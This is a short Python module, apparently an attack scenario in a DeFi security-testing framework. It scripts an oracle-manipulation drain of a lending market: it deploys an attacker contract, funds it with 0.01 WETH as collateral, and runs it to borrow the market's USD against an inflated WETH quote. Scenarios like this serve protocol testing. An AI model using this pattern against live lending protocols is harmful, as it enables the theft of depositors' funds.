"""Post a huge WETH quote, borrow the lending market's USD against a sliver of WETH, restore the quote."""

from __future__ import annotations

from bulwark.domain import TxHash
from bulwark.scenarios.attack import ScenarioContext

COLLATERAL = 10**16  # 0.01 WETH


async def attack(ctx: ScenarioContext) -> list[TxHash]:
    me = ctx.attacker
    router, deployed = await ctx.deploy(me, ctx.scenario.attacker)
    funded = await ctx.send(me, ctx.address("weth"), ctx.abi("weth"), "transfer", router, COLLATERAL)
    abi = ctx.artifact(ctx.scenario.attacker).abi
    drained = await ctx.send(me, router, abi, "run", ctx.address("lending"), COLLATERAL)
    return [deployed, funded, drained]
